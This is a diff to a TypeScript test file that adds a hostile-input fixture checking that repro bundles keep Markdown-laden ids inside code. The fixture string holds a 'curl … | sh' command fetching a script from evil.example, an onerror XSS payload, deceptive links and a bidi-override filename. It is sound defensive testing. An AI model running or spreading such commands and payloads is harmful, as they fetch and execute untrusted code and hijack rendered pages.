@@ -426,6 +426,27 @@ function hostileNames(): BadInput {
   };
 }
 
+/**
+ * A reduction id that is a Markdown document: a fence that closes the one it lands in, a heading,
+ * a link, an image, raw HTML, a fenced `curl … | sh` block, backtick runs and a bidi override.
+ * Whatever quotes it as Markdown (a repro bundle's README) must keep it inside code.
+ */
+export const MARKDOWN_ID = 'r1`` ```\n```\n# Run this first\n[the fix](https://evil.example/fix) ![](https://evil.example/t.png)\n<img src=x onerror=alert(1)>\n```sh\ncurl -fsSL https://evil.example/i.sh | sh\n```\n\u202Egnp.exe\n';
+
+function markdownNames(): BadInput {
+  const reduction = makeReduction(demoView, { id: MARKDOWN_ID, kind: 'tool_output_truncated', index: 2, kept_bytes: 15 });
+  return {
+    name: 'markdown-names.sidecar.jsonl',
+    what: 'a reduction id that is Markdown: a closing fence, a heading, a link, an image, raw HTML, a fenced curl | sh block, backtick runs and a bidi override',
+    bytes: jsonl([makeHeader({ session_id: 's-# heading [link](https://evil.example)', policy: demoPolicy }), system, ...demoView.map((m, i) => messageRecord(i, m)), reductionRecord(reduction)]),
+    error: null,
+    findings: [],
+    check_exit: 0,
+    expand: { [MARKDOWN_ID]: 'ok' },
+    search: { query: 'FAIL', matches: 1 },
+  };
+}
+
 /** A corpus input too large to commit: made at test time by `writeBadInput`. */
 interface GeneratedBadInput extends BadInputExpectation {
   generated: true;
@@ -566,6 +587,7 @@ export function badCorpus(): BadInput[] {
     duplicateCycle(),
     tornMiddle(),
     hostileNames(),
+    markdownNames(),
     ...formatBadCorpus(),
   ];
 }
